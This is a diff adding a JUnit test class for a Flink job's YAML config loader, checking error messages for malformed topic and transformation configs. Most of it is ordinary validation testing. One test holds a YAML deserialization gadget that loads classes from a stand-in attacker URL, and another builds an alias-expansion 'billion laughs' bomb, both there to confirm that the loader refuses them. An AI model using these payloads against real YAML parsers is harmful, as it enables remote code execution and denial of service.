@@ -1,0 +1,263 @@
+package io.github.streamingjob.config;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.Map;
+import org.apache.flink.table.types.logical.BigIntType;
+import org.apache.flink.table.types.logical.TimestampType;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+class ConfigLoaderTest {
+  static final String TOPICS = read("config/topics.yaml");
+  static final String TRANSFORMATIONS = read("config/transformations.yaml");
+
+  static String read(String path) {
+    try {
+      return Files.readString(Path.of(path));
+    } catch (IOException e) {
+      throw new IllegalStateException(e);
+    }
+  }
+
+  /** The shipped topics.yaml with one change; fails if the text to change is not there. */
+  static String topicsWith(String from, String to) {
+    assertThat(TOPICS).contains(from);
+    return TOPICS.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to));
+  }
+
+  static List<String> problems(String topics, String transformations) {
+    try {
+      ConfigLoader.parse(topics, transformations);
+    } catch (ConfigException e) {
+      return e.problems();
+    }
+    throw new AssertionError("expected the config to be refused");
+  }
+
+  @Test
+  void loadsTheShippedConfig() {
+    JobConfig config = ConfigLoader.parse(TOPICS, TRANSFORMATIONS);
+    assertThat(config.enabledTopics()).extracting(TopicDef::name)
+        .containsExactly("bid-events", "user-activity", "order-events", "bid-events-aggregated");
+    TopicDef bids = config.topics().get(0);
+    assertThat(bids.topic()).isEqualTo("bid-events");
+    assertThat(bids.kafkaGroupId()).isEqualTo("flink-bid-events-v1");
+    assertThat(bids.scanMode()).isEqualTo(ScanMode.EARLIEST_OFFSET);
+    assertThat(bids.sourceSchema().get(0)).isEqualTo(ColumnDef.physical("user_id", new BigIntType()));
+    assertThat(bids.sink().tableName()).isEqualTo("bid_events_raw");
+    assertThat(bids.sink().schema().get(3)).isEqualTo(ColumnDef.physical("event_time", new TimestampType(3)));
+    assertThat(bids.sink().partitionBy()).containsExactly(PartitionField.parse("days(event_time)"));
+    TopicDef agg = config.topics().get(3);
+    assertThat(agg.topic()).isEqualTo("bid-events");
+    assertThat(agg.watermark()).contains(new WatermarkDef("event_time", Duration.ofSeconds(5)));
+    assertThat(agg.sourceSchema().get(4)).isEqualTo(ColumnDef.computed("event_time", "TO_TIMESTAMP_LTZ(timestamp_ms, 3)"));
+    assertThat(config.transformations().get("bid_events_aggregated").qualifiedClassName())
+        .isEqualTo("io.github.streamingjob.transformations.BidEventsAggregatedTransformer");
+  }
+
+  @Test
+  void loadsFromADirectoryAndFromTheClasspathAlike(@TempDir Path dir) throws IOException {
+    Files.writeString(dir.resolve("topics.yaml"), TOPICS);
+    Files.writeString(dir.resolve("transformations.yaml"), TRANSFORMATIONS);
+    assertThat(ConfigLoader.load(dir)).isEqualTo(ConfigLoader.loadFromClasspath());
+  }
+
+  @Test
+  void missingDirectoryFileIsNamed(@TempDir Path dir) {
+    assertThatThrownBy(() -> ConfigLoader.load(dir))
+        .isInstanceOf(ConfigException.class)
+        .hasMessageContaining(dir.resolve("topics.yaml") + ": file not found");
+  }
+
+  @Test
+  void typoInAKeyNamesFileTopicKeyAndSuggestion() {
+    assertThat(problems(topicsWith("kafka_group_id: \"flink-orders-v1\"", "kafka_group: \"flink-orders-v1\""),
+        TRANSFORMATIONS)).containsExactly(
+            "topics.yaml: topic 'order-events': key 'kafka_group': unknown key (did you mean 'kafka_group_id'?) "
+                + "(allowed: " + ConfigLoader.TOPIC_KEYS + ")",
+            "topics.yaml: topic 'order-events': key 'kafka_group_id': missing (required)");
+  }
+
+  @Test
+  void unknownTypeIsRejectedWithSuggestion() {
+    assertThat(problems(topicsWith("type: \"BIGINT\"", "type: \"BIGNIT\""), TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'bid-events': key 'source_schema[0].type': 'BIGNIT' is not a Flink SQL type: "
+            + "unknown type 'BIGNIT' (did you mean 'BIGINT'?)");
+  }
+
+  @Test
+  void nestedUnknownTypeAndSyntaxErrorsAreRejected() {
+    List<String> p = problems(topicsWith("name: \"bid_id\"\n        type: \"STRING\"",
+        "name: \"bid_id\"\n        type: \"ARRAY<STRNG>\"")
+        .replace("type: \"DOUBLE\"", "type: \"DECIMAL(10,\""), TRANSFORMATIONS);
+    assertThat(p).anySatisfy(m -> assertThat(m).startsWith(
+        "topics.yaml: topic 'bid-events': key 'source_schema[1].type': 'ARRAY<STRNG>' is not a Flink SQL type: "
+            + "unknown type 'STRNG'"));
+    assertThat(p).anySatisfy(m -> assertThat(m).startsWith(
+        "topics.yaml: topic 'bid-events': key 'source_schema[2].type': 'DECIMAL(10,' is not a Flink SQL type"));
+  }
+
+  @Test
+  void everyProblemIsReportedAtOnce() {
+    String broken = topicsWith("scan_mode: \"earliest-offset\"", "scan_mode: \"earliest\"")
+        .replace("format: \"json\"\n    source_schema:\n      - name: \"order_id\"",
+            "format: \"xml\"\n    source_schema:\n      - name: \"order_id\"")
+        .replace("enabled: true\n    kafka_group_id: \"flink-user-activity-v1\"",
+            "enabled: yes please\n    kafka_group_id: \"flink-user-activity-v1\"");
+    assertThat(problems(broken, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'bid-events': key 'scan_mode': 'earliest' is not a scan mode (expected one of "
+            + "[earliest-offset, latest-offset, group-offsets, timestamp])",
+        "topics.yaml: topic 'user-activity': key 'enabled': 'yes please' is not a boolean (expected true or false)",
+        "topics.yaml: topic 'order-events': key 'format': 'xml' is not a supported format (expected one of "
+            + "[json, csv, avro, raw])");
+  }
+
+  @Test
+  void missingRequiredKeys() {
+    String topics = "topics:\n  t:\n    kafka_group_id: g\n";
+    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 't': key 'source_schema': missing (required)",
+        "topics.yaml: topic 't': key 'sink': missing (required)",
+        "topics.yaml: topic 't': key 'transformation': missing (required)");
+  }
+
+  @Test
+  void listWrittenAsAMappingHintsAtTheDash() {
+    String topics = topicsWith("source_schema:\n      - name: \"user_id\"\n        type: \"BIGINT\"\n      - name: \"activity_type\"",
+        "source_schema:\n      name: \"user_id\"\n      type: \"BIGINT\"\n    x_schema:\n      - name: \"activity_type\"");
+    assertThat(problems(topics, TRANSFORMATIONS)).contains(
+        "topics.yaml: topic 'user-activity': key 'source_schema': expected a list of columns "
+            + "('- name: ..., type: ...'), got a mapping; perhaps you missed a dash prefix '-'?");
+  }
+
+  @Test
+  void unregisteredTransformationAndDuplicateSinkTable() {
+    String topics = topicsWith("transformation: \"order_events_enriched\"", "transformation: \"order_events_enrich\"")
+        .replace("table_name: \"user_events_processed\"", "table_name: \"bid_events_raw\"");
+    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'user-activity': key 'sink.table_name': table 'bid_events_raw' is already written by "
+            + "topic 'bid-events' (each enabled topic needs its own sink table)",
+        "topics.yaml: topic 'order-events': key 'transformation': 'order_events_enrich' is not registered in "
+            + "transformations.yaml (did you mean 'order_events_enriched'?) (registered: [bid_events_raw, "
+            + "user_events_processed, order_events_enriched, bid_events_aggregated])");
+  }
+
+  @Test
+  void disabledTopicsAreParsedButNotCrossChecked() {
+    String topics = topicsWith("enabled: true\n    kafka_group_id: \"flink-orders-v1\"",
+        "enabled: false\n    kafka_group_id: \"flink-orders-v1\"")
+        .replace("transformation: \"order_events_enriched\"", "transformation: \"not_written_yet\"");
+    JobConfig config = ConfigLoader.parse(topics, TRANSFORMATIONS);
+    assertThat(config.topics()).hasSize(4);
+    assertThat(config.enabledTopics()).extracting(TopicDef::name).doesNotContain("order-events");
+  }
+
+  @Test
+  void sinkExtensionsAreChecked() {
+    String topics = topicsWith("partition_by: [\"days(event_time)\"]",
+        "partition_by: [\"days(event_tim)\", \"bucket(0, user_id)\", \"weeks(event_time)\"]\n"
+            + "      primary_key: [\"bid_di\"]\n      properties:\n        write.format.default: parquet");
+    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'bid-events': key 'sink.partition_by[0]': 'event_tim' is not a column of sink.schema "
+            + "(did you mean 'event_time'?)",
+        "topics.yaml: topic 'bid-events': key 'sink.partition_by[1]': 'bucket(0, user_id)': the width must be positive",
+        "topics.yaml: topic 'bid-events': key 'sink.partition_by[2]': 'weeks(event_time)' is not a partition "
+            + "transform (expected one of: col, years(col), months(col), days(col), hours(col), bucket(N, col), "
+            + "truncate(N, col))",
+        "topics.yaml: topic 'bid-events': key 'sink.primary_key': 'bid_di' is not a column of sink.schema "
+            + "(did you mean 'bid_id'?)");
+  }
+
+  @Test
+  void sinkExtensionsAreParsed() {
+    String topics = topicsWith("partition_by: [\"days(event_time)\"]",
+        "partition_by: [\"bucket(16, user_id)\", \"hours(event_time)\"]\n"
+            + "      primary_key: [\"bid_id\"]\n      properties:\n        write.parquet.compression-codec: zstd");
+    SinkDef sink = ConfigLoader.parse(topics, TRANSFORMATIONS).topics().get(0).sink();
+    assertThat(sink.partitionBy()).containsExactly(
+        new PartitionField(PartitionField.Transform.BUCKET, "user_id", 16),
+        new PartitionField(PartitionField.Transform.HOURS, "event_time", 0));
+    assertThat(sink.primaryKey()).containsExactly("bid_id");
+    assertThat(sink.properties()).isEqualTo(Map.of("write.parquet.compression-codec", "zstd"));
+  }
+
+  @Test
+  void watermarkMustNameASourceColumnAndADuration() {
+    String topics = topicsWith("column: \"event_time\"\n      delay: \"5 s\"", "column: \"event_tme\"\n      delay: \"soon\"");
+    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.column': 'event_tme' is not a column of source_schema",
+        "topics.yaml: topic 'bid-events-aggregated': key 'watermark.delay': 'soon' is not a duration "
+            + "(e.g. '5 s', '500 ms', '1 min')");
+  }
+
+  @Test
+  void kafkaPropertiesThatTheJobOwnsAreRefused() {
+    String topics = topicsWith("kafka_group_id: \"flink-orders-v1\"",
+        "kafka_group_id: \"flink-orders-v1\"\n    kafka_properties:\n      group.id: other\n      max.poll.records: 1000");
+    assertThat(problems(topics, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'order-events': key 'kafka_properties.group.id': is set by the job from the runtime "
+            + "properties (Kafka group), not per topic");
+  }
+
+  @Test
+  void duplicateColumnsAndDuplicateYamlKeys() {
+    String dupColumn = topicsWith("- name: \"bid_id\"", "- name: \"user_id\"");
+    assertThat(problems(dupColumn, TRANSFORMATIONS)).containsExactly(
+        "topics.yaml: topic 'bid-events': key 'source_schema[1].name': duplicate column 'user_id'");
+    String dupKey = topicsWith("scan_mode: \"earliest-offset\"", "scan_mode: \"earliest-offset\"\n    scan_mode: \"latest-offset\"");
+    assertThat(problems(dupKey, TRANSFORMATIONS)).singleElement().asString()
+        .startsWith("topics.yaml: not valid YAML:").contains("found duplicate key scan_mode");
+  }
+
+  @Test
+  void emptyFileAndNonYamlAndWrongShape() {
+    assertThat(problems("", TRANSFORMATIONS)).containsExactly("topics.yaml: the file is empty");
+    assertThat(problems("topics: [unclosed", TRANSFORMATIONS)).singleElement().asString()
+        .startsWith("topics.yaml: not valid YAML:");
+    assertThat(problems("just a sentence", TRANSFORMATIONS))
+        .containsExactly("topics.yaml: expected a mapping with key 'topics', got 'just a sentence'");
+    assertThat(problems(TOPICS, "\u0000\u0001binary")).first().asString()
+        .startsWith("transformations.yaml: not valid YAML:");
+  }
+
+  @Test
+  void yamlTagsNamingJavaClassesAreRefused() {
+    String hostile = "topics: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
+        + "[\"http://attacker.example/\"]]]]\n";
+    assertThat(problems(hostile, TRANSFORMATIONS)).singleElement().asString()
+        .startsWith("topics.yaml: not valid YAML:").contains("javax.script.ScriptEngineManager");
+  }
+
+  @Test
+  void aliasBombsAreRefused() {
+    StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+    for (char c = 'b'; c <= 'j'; c++) {
+      char p = (char) (c - 1);
+      bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
+          .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
+          .append(p).append(",*").append(p).append("]\n");
+    }
+    bomb.append("topics: *j\n");
+    assertThat(problems(bomb.toString(), TRANSFORMATIONS)).singleElement().asString()
+        .startsWith("topics.yaml: not valid YAML:").contains("Number of aliases for non-scalar nodes exceeds");
+  }
+
+  @Test
+  void transformationsFileIsCheckedToo() {
+    String transformations = TRANSFORMATIONS.replace("    class: \"UserEventsProcessedTransformer\"",
+        "    clas: \"UserEventsProcessedTransformer\"");
+    assertThat(problems(TOPICS, transformations)).containsExactly(
+        "transformations.yaml: transformation 'user_events_processed': key 'clas': unknown key "
+            + "(did you mean 'class'?) (allowed: [class, module, description])",
+        "transformations.yaml: transformation 'user_events_processed': key 'class': missing (required)",
+        "topics.yaml: topic 'user-activity': key 'transformation': 'user_events_processed' is not registered in "
+            + "transformations.yaml (registered: [bid_events_raw, order_events_enriched, bid_events_aggregated])");
+  }
+}
